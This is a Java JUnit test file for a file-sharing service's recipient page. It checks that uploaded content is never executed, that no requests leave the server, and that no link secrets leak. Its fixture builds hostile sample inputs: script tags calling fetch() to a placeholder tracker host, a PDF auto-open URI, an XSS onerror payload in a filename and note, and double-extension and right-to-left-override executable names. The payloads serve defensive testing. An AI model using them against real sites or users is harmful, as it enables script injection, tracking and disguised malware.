package dev.cofre.cli.job;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.cofre.cli.demo.Actor.Answer;
import dev.cofre.client.transfer.LocalNames;
import dev.cofre.server.browser.Tab;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// What the page of a send opens is never run, and nothing of it goes anywhere.
class HarmlessPageTest {
  private static final String CANARY = "canary-3f9a";
  private static final String REMOTE = "http://tracker.example/" + CANARY;
  @TempDir private static Path directory;
  private static PageOffice office;

  @BeforeAll
  static void open() throws IOException {
    office = PageOffice.open(directory);
  }

  @AfterAll
  static void close() {
    if (office != null) {
      office.close();
    }
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static Map<String, byte[]> bites() {
    String script = "<script>window.top.ran = true; fetch('" + REMOTE + "')</script>";
    Map<String, byte[]> files = new LinkedHashMap<>();
    files.put("page.html", bytes("<!doctype html><img src='" + REMOTE + "'>" + script));
    files.put("image.svg", bytes("<svg xmlns='http://www.w3.org/2000/svg'>" + script + "</svg>"));
    files.put("formula.mml", bytes("<math><maction href='" + REMOTE + "'/></math>"));
    files.put(
        "paper.pdf", bytes("%PDF-1.7\n1 0 obj<</OpenAction<</S/URI/URI(" + REMOTE + ")>>>>endobj"));
    files.put("code.js", bytes("window.ran = true; fetch('" + REMOTE + "')"));
    files.put("invoice.pdf.exe", bytes("MZ" + REMOTE));
    files.put("invoice\u202Efdp.exe", bytes("MZ right to left " + REMOTE));
    files.put("<img src=x onerror=ran=1>.txt", bytes(REMOTE));
    return files;
  }

  /// Only to this server, and nothing that only the link's holder knows.
  private static void requireQuiet(Tab tab, String link, List<String> secrets) {
    String fragment = link.substring(link.indexOf("#v1.") + 4);
    assertFalse(tab.requests().isEmpty());
    for (String request : tab.requests()) {
      String url = request.split(" ")[1];
      assertTrue(
          url.startsWith(office.office().url() + "/") || url.startsWith("blob:"),
          () -> "asked for " + request);
      String withoutFragments = request.replaceFirst("#\\S*", "");
      assertFalse(withoutFragments.contains(fragment.substring(0, 20)), request);
      assertTrue(request.replace("\"Referer\":\"\"", "").indexOf("Referer") < 0, request);
      for (String secret : secrets) {
        assertFalse(withoutFragments.contains(secret), () -> secret + " in " + request);
      }
    }
  }

  private static void requireNoFragmentInTheHistory(Tab tab) {
    for (JsonNode entry : tab.ask("Page.getNavigationHistory").get("entries")) {
      assertFalse(entry.get("url").asText().contains("#"), entry::toString);
    }
  }

  @Test
  @Tag("D04")
  @Tag("J03")
  @Tag("J04")
  void whatBitesIsSavedAndNeverRun() throws IOException {
    Map<String, byte[]> files = bites();
    Answer sent = office.send(files, "--note", "<img src=x onerror='ran=1'> " + REMOTE);
    try (Tab tab = office.tab("en")) {
      tab.go(sent.field("link"));
      tab.press("Open");
      for (Map.Entry<String, byte[]> file : files.entrySet()) {
        String name = LocalNames.harmless(file.getKey());
        tab.press("Save " + name);
        assertArrayEquals(file.getValue(), tab.download(name), name);
      }
      assertEquals("undefined", tab.value("typeof window.ran").asText());
      assertEquals(
          0, tab.value("document.querySelectorAll('main img, main script').length").asInt());
      assertTrue(tab.value("location.href").asText().startsWith(office.office().url() + "/s/"));
      requireQuiet(tab, sent.field("link"), List.of(CANARY));
    }
  }

  @Test
  @Tag("J01")
  @Tag("J11")
  void neitherKeyNorNamesNorContentLeaveTheBrowser() throws IOException {
    Answer sent =
        office.send(
            Map.of("name-" + CANARY + ".txt", bytes("content-" + CANARY)),
            "--note",
            "note-" + CANARY,
            "--passcode");
    try (Tab tab = office.tab("en")) {
      tab.before("window.first = location.hash");
      tab.go(sent.field("link"));
      tab.await("document.getElementById('passcode')");
      assertEquals(
          sent.field("link").substring(sent.field("link").indexOf('#')),
          tab.value("window.first").asText());
      assertEquals("", tab.value("location.hash").asText());
      requireNoFragmentInTheHistory(tab);
      tab.value(
          "document.getElementById('passcode').value = " + Tab.quoted(sent.field("passcode")));
      tab.press("Open");
      String name = "name-" + CANARY + ".txt";
      tab.press("Save " + name);
      assertArrayEquals(bytes("content-" + CANARY), tab.download(name));
      tab.press("Close and wipe");
      tab.awaitText("Closed");
      requireNoFragmentInTheHistory(tab);
      requireQuiet(tab, sent.field("link"), List.of(CANARY, sent.field("passcode")));
      assertEquals(0, tab.value("localStorage.length + sessionStorage.length").asInt());
      assertEquals("", tab.value("document.cookie").asText());
    }
  }

  @Test
  @Tag("J10")
  void lookingAtThePageWithoutPressingAnythingUsesNothingUp() throws IOException {
    Answer sent = office.sendText("still there", "--opens", "1");
    for (int i = 0; i < 3; i++) {
      try (Tab tab = office.tab("en")) {
        tab.go(sent.field("link"));
        tab.awaitText("Ana Silva sends you a text");
      }
    }
    assertTrue(office.shown(sent).contains("\"opened\":0"), office.shown(sent));
  }
}
